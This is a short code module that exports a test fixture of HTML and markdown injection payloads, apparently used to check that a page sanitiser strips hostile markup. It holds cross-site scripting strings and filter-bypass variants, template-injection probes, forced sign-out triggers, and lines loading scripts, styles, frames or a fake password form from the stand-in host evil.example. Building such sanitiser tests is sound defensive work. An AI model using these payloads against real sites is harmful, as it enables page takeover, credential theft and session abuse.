/** What somebody might write, or import, to run something, load something or take over the page. */
export const hostile = [
  '<script>window.harmed = 1</script>', '<scr<script>ipt>window.harmed = 1</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.harmed = 1">', '<img src="/help/files/x" onerror=window.harmed=1 style="position:fixed">', '<img srcset="//evil.example/a.png 1x" src="//evil.example/b.png">',
  '<svg onload="window.harmed = 1"><script>window.harmed = 1</script></svg>', '<svg><a xlink:href="javascript:window.harmed=1"><text>x</text></a></svg>', '<math><mtext><style><img src=x onerror=window.harmed=1></style>',
  '<a href="javascript:window.harmed=1">link</a>', '[link](javascript:window.harmed=1)', '[link](JaVaScRiPt:window.harmed=1)', '<a href="java&#10;script:window.harmed=1">x</a>', '[x](&#106;avascript:window.harmed=1)',
  '[link](data:text/html,<script>window.harmed=1</script>)', '![x](data:image/svg+xml;base64,PHN2Zy8+)', '[x](vbscript:x)', '[x](//evil.example)',
  '<style>body { display: none }</style>', '<p style="position:fixed;inset:0;background:url(//evil.example)">covered</p>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action="//evil.example"><input name=password autofocus onfocus="window.harmed=1"><button>Sign in</button></form>', '<button formaction="//evil.example">Go</button>',
  '<iframe src="//evil.example"></iframe>', '<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>', '<object data="//evil.example"></object>', '<embed src="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">', '<base href="//evil.example">', '<video src="//evil.example" autoplay onplay=window.harmed=1></video>', '<template><script>window.harmed=1</script></template>',
  '<div hx-get="/sign-out" hx-trigger="load">x</div>', '<div data-hx-post="/sign-out" hx-on:click="window.harmed=1">x</div>', '<div id="main" class="unseen">x</div>', '<details open ontoggle="window.harmed=1"><summary>x</summary>y</details>',
  '<noscript><p title="</noscript><img src=x onerror=window.harmed=1>"></noscript>', '<textarea></textarea><script>window.harmed=1</script>', '<!--><script>window.harmed=1</script>-->', '<![CDATA[<script>window.harmed=1</script>]]>',
  '```html" onload="window.harmed=1\n<script>window.harmed=1</script>\n```', '# <img src=x onerror=window.harmed=1> {#main}', '<h1 id="toasts">Mine</h1>', '<%= 7 * 7 %>${7 * 7}{{7 * 7}}', '</div></article></main><h1>Outside</h1>', '<ul><li><div><p></ul></article>',
].join('\n\n')
